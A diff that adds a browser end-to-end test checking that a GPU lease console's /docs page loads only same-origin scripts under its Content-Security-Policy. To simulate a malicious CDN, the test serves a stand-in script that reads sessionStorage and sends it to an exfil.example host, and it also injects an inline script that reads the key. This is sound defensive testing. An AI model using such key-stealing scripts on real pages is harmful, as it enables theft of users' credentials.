@@ -335,3 +335,74 @@ describe("the console", () => {
     expect(await seriousViolations()).toEqual([]);
   });
 });
+
+// Hardening item 12 (docs/security.md): the console keeps its key in this origin's sessionStorage,
+// which every script any page of the origin runs can read; so no page of the origin runs a script
+// from anywhere else. Every request to another origin is answered here by a "CDN" whose script
+// would take the key.
+describe("the API reference on the console's origin", () => {
+  it("renders /docs from this origin's own scripts under its CSP; no script of another origin runs, so the key cannot be read from there", { timeout: 120_000 }, async () => {
+    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
+    const foreign: string[] = [];
+    await context.route(
+      (url) => url.origin !== new URL(server.base).origin,
+      (route) => {
+        foreign.push(route.request().url());
+        const thief = "window.__stolen = Object.values(sessionStorage); fetch('https://exfil.example/?k=' + encodeURIComponent(String(window.__stolen)));";
+        return route.fulfill({ status: 200, contentType: "application/javascript", body: thief });
+      },
+    );
+    const docs = await context.newPage();
+    const violations: string[] = [];
+    docs.on("console", (m) => {
+      if (/Content.Security.Policy/i.test(m.text())) violations.push(m.text());
+    });
+    try {
+      // Signed in on the console, then the same tab goes to /docs: the tab's sessionStorage holds the key.
+      await docs.goto(`${server.base}/console/`);
+      await docs.getByLabel("API key").fill(adminKey);
+      await docs.getByRole("button", { name: "Sign in" }).click();
+      await docs.getByRole("heading", { name: "Leases" }).waitFor();
+      expect(await docs.evaluate("Object.values(sessionStorage)")).toEqual([adminKey]);
+
+      const answer = await docs.goto(`${server.base}/docs`, { waitUntil: "load" });
+      // Nothing was asked of another origin, and no script took the key.
+      expect(foreign).toEqual([]);
+      expect(await docs.evaluate("window.__stolen")).toBeUndefined();
+      expect(new URL(docs.url()).pathname).toBe("/docs/");
+      const csp = answer?.headers()["content-security-policy"] ?? "";
+      expect(csp).toContain("script-src 'self';");
+      // The reference rendered the Worker's own document (its description, and an operation of it).
+      await docs.getByText("GPU lease control plane", { exact: false }).first().waitFor({ timeout: 60_000 });
+      await docs.getByText("Liveness (no authentication)").first().waitFor();
+      await docs.screenshot({ path: path.join(ARTIFACTS, "docs.png") });
+      // Its scripts: the two files of this origin, nothing else; the page needed nothing its policy refuses.
+      const scripts = (await docs.evaluate("[...document.scripts].map((s) => s.src)")) as string[];
+      expect(scripts.map((src) => new URL(src).pathname)).toEqual([expect.stringMatching(/^\/docs\/scalar-api-reference-[0-9.]+\.js$/), "/docs/init.js"]);
+      expect(violations).toEqual([]);
+      expect(foreign).toEqual([]);
+
+      // A script of another origin put on the page (as an injection would) is refused by the policy
+      // before it is requested, and so is an inline one.
+      const refused = (await docs.evaluate(`new Promise((resolve) => {
+        const seen = [];
+        document.addEventListener("securitypolicyviolation", (e) => {
+          seen.push(e.violatedDirective + " " + e.blockedURI);
+          if (seen.length === 2) resolve(seen);
+        });
+        const remote = document.createElement("script");
+        remote.src = "https://cdn.jsdelivr.net/npm/@scalar/api-reference";
+        document.body.append(remote);
+        const inline = document.createElement("script");
+        inline.textContent = "window.__stolen = Object.values(sessionStorage)";
+        document.body.append(inline);
+      })`)) as string[];
+      expect(refused).toEqual([expect.stringMatching(/^script-src(-elem)? https:\/\/cdn\.jsdelivr\.net/), expect.stringMatching(/^script-src(-elem)? inline$/)]);
+      expect(await docs.evaluate("window.__stolen")).toBeUndefined();
+      expect(foreign).toEqual([]);
+    } finally {
+      await context.close();
+    }
+  });
+});
+
